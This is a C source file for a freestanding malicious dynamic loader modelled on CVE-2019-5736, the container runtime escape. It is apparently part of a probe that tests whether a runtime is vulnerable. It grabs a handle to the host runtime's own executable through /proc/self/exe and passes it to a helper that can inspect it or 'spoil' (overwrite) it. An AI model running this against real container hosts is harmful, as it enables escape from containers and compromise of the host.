/* The attacker's dynamic loader, as in CVE-2019-5736.
 *
 * A container whose program is /proc/self/exe runs the container runtime's own program file, but with the loader of the
 * container's image: this one. It takes a descriptor of the file that it finds itself in (number 9, kept open over
 * execve) and goes on as /probe, which looks at what could be done with it (VERB is "exe"), or does it ("spoil").
 *
 * It is built without a C library: a loader starts before there is one.
 */

#include <asm/unistd.h>
#include <linux/fcntl.h>

#if defined(__x86_64__)
static long system_call(long number, long a, long b, long c, long d)
{
    register long r10 __asm__("r10") = d;
    long result;

    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
}
#elif defined(__aarch64__)
static long system_call(long number, long a, long b, long c, long d)
{
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;

    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
}
#endif

void _start(void)
{
    static char program[] = "/probe", verb[] = VERB;
    static char *arguments[] = {program, verb, 0}, *environment[] = {0};
    long fd = system_call(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0);

    system_call(__NR_dup3, fd, 9, 0, 0);
    system_call(__NR_execve, (long)program, (long)arguments, (long)environment, 0);
    system_call(__NR_exit, 120, 0, 0, 0);
}
